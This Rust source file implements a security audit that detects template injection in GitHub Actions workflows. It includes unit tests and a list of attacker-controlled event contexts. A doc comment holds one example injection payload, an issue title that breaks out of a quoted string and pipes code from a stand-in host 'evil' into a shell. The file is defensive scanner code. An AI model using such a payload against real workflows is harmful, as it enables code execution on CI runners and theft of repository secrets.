//! Expressions are pasted into scripts before the shell or JavaScript sees
//! them, so an attacker-written issue title such as `"; curl evil | sh #`
//! becomes code. The fix is to pass the value through `env:` and quote it.

use keepopen_findings::{Confidence, Severity};

use crate::context::{Ctx, StepRef, input, is_action};
use crate::expr::{expressions, matches};
use crate::{AuditInfo, Finding};

pub(crate) const INFO: AuditInfo = AuditInfo {
    id: "workflow-template-injection",
    name: "Template injection",
    description: "Attacker-controllable contexts expanded with ${{ }} inside run: scripts or github-script code can inject commands.",
    severity: Severity::High,
};

/// Contexts anyone who can open an issue, pull request or comment controls.
const ATTACKER_CONTROLLED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.*",
    "github.event.head_commit.message",
    "github.event.head_commit.author.*",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.*",
    "github.head_ref",
];

/// Inputs: controlled by whoever dispatches or calls the workflow.
const INPUTS: &[&str] = &["inputs.*", "github.event.inputs.*"];

pub(crate) fn run(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
    for (path, step) in cx.steps() {
        let (location, script) = match step {
            StepRef::Run(r) => (format!("{path}.run"), r.run.clone()),
            StepRef::Uses(u) if is_action(u, "actions/github-script") => match input(u, "script") {
                Some(s) => (format!("{path}.with.script"), s),
                None => continue,
            },
            StepRef::Uses(_) => continue,
        };
        for e in expressions(&script) {
            for context in &e.contexts {
                let (severity, confidence) =
                    if ATTACKER_CONTROLLED.iter().any(|p| matches(context, p)) {
                        (Severity::High, Confidence::High)
                    } else if INPUTS.iter().any(|p| matches(context, p)) {
                        (Severity::Medium, Confidence::Medium)
                    } else {
                        continue;
                    };
                let needle = e.raw.lines().next().unwrap_or(e.raw);
                out.push(cx.finding(
                    &INFO,
                    severity,
                    confidence,
                    location.clone(),
                    Some(needle),
                    format!("`{context}` is expanded into a script; pass it through env: instead"),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audits::findings;

    const ISSUE: &str = "\
on: issues
permissions: {}
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - name: greet
        run: |
          echo hello
          echo \"${{ github.event.issue.title }}\"
      - uses: actions/github-script@v7
        with:
          script: |
            console.log(`${{ inputs.name }}`)
";

    #[test]
    fn issue_title_in_run_is_high_at_its_own_line() {
        let f = findings(INFO.id, ISSUE);
        assert_eq!(f.len(), 2);
        assert_eq!((f[0].severity, f[0].line), (Severity::High, 10));
        assert_eq!(f[0].location, "jobs.triage.steps[0].run");
        assert!(f[0].message.contains("github.event.issue.title"));
    }

    #[test]
    fn inputs_in_github_script_are_lower() {
        let f = findings(INFO.id, ISSUE);
        assert_eq!((f[1].severity, f[1].line), (Severity::Medium, 14));
        assert_eq!(f[1].location, "jobs.triage.steps[1].with.script");
    }

    #[test]
    fn values_passed_through_env_are_clean() {
        let f = findings(
            INFO.id,
            "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\" ${{ github.sha }}\n",
        );
        assert!(f.is_empty());
    }
}
